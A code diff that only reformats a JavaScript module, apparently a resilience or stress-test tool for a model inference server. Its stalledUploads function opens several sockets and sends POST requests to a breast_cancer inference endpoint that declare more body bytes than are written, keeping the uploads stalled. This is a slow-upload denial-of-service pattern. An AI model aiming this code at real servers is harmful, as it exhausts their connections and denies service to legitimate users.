@@ -7,7 +7,13 @@ import net from 'node:net';
 function grpcUpload(session, headers, declared, send, onDone) {
   let stream;
   try {
-    stream = session.request({ ':method': 'POST', ':path': '/inference.GRPCInferenceService/ModelInfer', 'content-type': 'application/grpc', te: 'trailers', ...headers });
+    stream = session.request({
+      ':method': 'POST',
+      ':path': '/inference.GRPCInferenceService/ModelInfer',
+      'content-type': 'application/grpc',
+      te: 'trailers',
+      ...headers,
+    });
   } catch {
     return onDone();
   }
@@ -91,7 +97,9 @@ export function stalledUploads(url, { count = 9, each = Math.floor((128 * 2 ** 2
       setTimeout(open, 100);
     });
     socket.resume();
-    socket.write(`POST /v2/models/breast_cancer/infer HTTP/1.1\r\nHost: x\r\n${token ? `Authorization: Bearer ${token}\r\n` : ''}Content-Type: application/json\r\nContent-Length: ${each + 1024}\r\n\r\n`);
+    socket.write(
+      `POST /v2/models/breast_cancer/infer HTTP/1.1\r\nHost: x\r\n${token ? `Authorization: Bearer ${token}\r\n` : ''}Content-Type: application/json\r\nContent-Length: ${each + 1024}\r\n\r\n`,
+    );
     socket.write(Buffer.alloc(each, 0x20));
   };
   for (let i = 0; i < count; i++) open();
